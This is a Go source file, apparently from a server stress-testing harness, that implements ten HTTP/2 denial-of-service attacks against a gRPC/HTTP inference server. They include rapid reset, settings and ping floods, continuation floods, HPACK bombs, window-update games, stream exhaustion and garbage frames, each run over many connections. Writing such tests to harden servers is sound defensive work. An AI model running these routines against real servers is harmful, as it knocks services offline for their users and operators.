package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"math/rand/v2"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func attacksOnHTTP2() []attack {
	var all []attack
	for _, a := range []struct {
		name string
		do   func(ctx context.Context, c *h2conn, rng *rand.Rand)
	}{
		{"rapid-reset", rapidReset}, {"settings", settingsFlood}, {"pings", pingFlood}, {"continuation", continuationFlood}, {"windows", windowGames},
		{"empty-data", emptyData}, {"hpack-bomb", hpackBomb}, {"half-frame", halfFrame}, {"open-streams", openStreams}, {"garbage", garbageFrames},
	} {
		all = append(all, attack{name: "h2-" + a.name + "-grpc", run: h2(12, true, a.do)}, attack{name: "h2-" + a.name + "-http", run: h2(12, false, a.do)})
	}
	return all
}

// h2conn is a connection that speaks frames.
type h2conn struct {
	*wire
	fr   *http2.Framer
	path string
	buf  bytes.Buffer
	enc  *hpack.Encoder
	next uint32
}

// h2 runs k connections to the port of gRPC or HTTP that each do one thing after the
// preface. What the server says is read away meanwhile.
func h2(k int, grpc bool, do func(ctx context.Context, c *h2conn, rng *rand.Rand)) func(context.Context, *server, *rand.Rand, *notes) error {
	return func(ctx context.Context, s *server, rng *rand.Rand, n *notes) error {
		seed := rng.Uint64()
		address, path := s.http, "/v2/health/ready"
		if grpc {
			address, path = s.grpc, "/inference.GRPCInferenceService/ModelInfer"
		}
		return many(ctx, k, func(ctx context.Context) error {
			w, err := s.open(ctx, n, address, "h2")
			if err != nil {
				return err
			}
			read := make(chan struct{})
			go func() {
				defer close(read)
				w.drain()
			}()
			c := &h2conn{wire: w, fr: http2.NewFramer(w, nil), path: path, next: 1}
			c.fr.AllowIllegalWrites = true
			c.enc = hpack.NewEncoder(&c.buf)
			if w.send([]byte(http2.ClientPreface)) && c.did(c.fr.WriteSettings()) {
				do(ctx, c, rand.New(rand.NewPCG(seed, uint64(time.Now().UnixNano()))))
			}
			w.end()
			<-read
			return nil
		})
	}
}

// did notes that the server cut the connection.
func (c *h2conn) did(err error) bool {
	if err != nil {
		c.n.add("cut")
	}
	return err == nil
}

func (c *h2conn) fields(extra ...string) []byte {
	c.buf.Reset()
	all := append([]string{":method", "POST", ":scheme", "http", ":path", c.path, ":authority", "a", "content-type", "application/grpc", "te", "trailers"}, extra...)
	for i := 0; i < len(all); i += 2 {
		if err := c.enc.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]}); err != nil {
			panic(err) // a bytes.Buffer takes everything
		}
	}
	return bytes.Clone(c.buf.Bytes())
}

// call opens a stream.
func (c *h2conn) call(end bool, extra ...string) (uint32, bool) {
	id := c.next
	c.next += 2
	return id, c.did(c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.fields(extra...), EndHeaders: true, EndStream: end}))
}

func rapidReset(_ context.Context, c *h2conn, _ *rand.Rand) {
	for range 100000 {
		id, ok := c.call(false)
		if !ok || !c.did(c.fr.WriteRSTStream(id, http2.ErrCodeCancel)) {
			return
		}
	}
}

func settingsFlood(_ context.Context, c *h2conn, rng *rand.Rand) {
	for range 100000 {
		if !c.did(c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: rng.Uint32() >> 8})) {
			return
		}
	}
}

func pingFlood(_ context.Context, c *h2conn, _ *rand.Rand) {
	for range 100000 {
		if !c.did(c.fr.WritePing(false, [8]byte{})) {
			return
		}
	}
}

func continuationFlood(_ context.Context, c *h2conn, _ *rand.Rand) {
	if !c.did(c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.fields(), EndHeaders: false})) {
		return
	}
	block := c.fields("x", strings.Repeat("a", 4000))
	for range 10000 {
		if !c.did(c.fr.WriteContinuation(1, false, block)) {
			return
		}
	}
}

// windowGames gives answers a window of nothing, then a byte at a time, then too much.
func windowGames(ctx context.Context, c *h2conn, rng *rand.Rand) {
	if !c.did(c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})) {
		return
	}
	var last uint32
	for range 50 {
		id, ok := c.call(true)
		if !ok {
			return
		}
		last = id
	}
	for range 2000 {
		id := uint32(rng.IntN(int(last)/2))*2 + 1
		if !c.did(c.fr.WriteWindowUpdate(id, 1)) {
			return
		}
		if rng.IntN(50) == 0 && !pause(ctx, 5*time.Millisecond) {
			return
		}
	}
	if c.did(c.fr.WriteWindowUpdate(0, 1<<31-1)) && c.did(c.fr.WriteWindowUpdate(0, 1<<31-1)) {
		c.hang(ctx)
	}
}

func emptyData(_ context.Context, c *h2conn, _ *rand.Rand) {
	id, ok := c.call(false)
	for range 100000 {
		if !ok {
			return
		}
		ok = c.did(c.fr.WriteData(id, false, nil))
	}
}

// hpackBomb puts a large field into the table and names it thousands of times.
func hpackBomb(_ context.Context, c *h2conn, _ *rand.Rand) {
	for range 1000 {
		extra := []string{"x-bomb", strings.Repeat("b", 3800)}
		block := c.fields(extra...)
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 15000)...)
		half := len(block) / 2
		id := c.next
		c.next += 2
		if !c.did(c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:half], EndHeaders: false})) ||
			!c.did(c.fr.WriteContinuation(id, true, block[half:])) {
			return
		}
	}
}

// halfFrame announces frames and does not send them.
func halfFrame(ctx context.Context, c *h2conn, rng *rand.Rand) {
	var h [9]byte
	binary.BigEndian.PutUint32(h[:], uint32(rng.IntN(1<<20))<<8|uint32(rng.IntN(10)))
	binary.BigEndian.PutUint32(h[5:], 1)
	if c.send(h[:]) && c.send([]byte{0, 0}) {
		pause(ctx, 3*time.Second)
	}
}

// openStreams opens as many streams as it can and sends nothing on them.
func openStreams(ctx context.Context, c *h2conn, _ *rand.Rand) {
	for range 5000 {
		if _, ok := c.call(false); !ok {
			return
		}
	}
	pause(ctx, time.Second)
}

func garbageFrames(_ context.Context, c *h2conn, rng *rand.Rand) {
	for range 2000 {
		b := make([]byte, rng.IntN(200))
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		if rng.IntN(3) == 0 {
			if _, ok := c.call(rng.IntN(2) == 0, "x", "y"); !ok {
				return
			}
		}
		if !c.did(c.fr.WriteRawFrame(http2.FrameType(rng.IntN(12)), http2.Flags(rng.Uint32()), uint32(rng.IntN(int(c.next)+2)), b)) {
			return
		}
	}
}
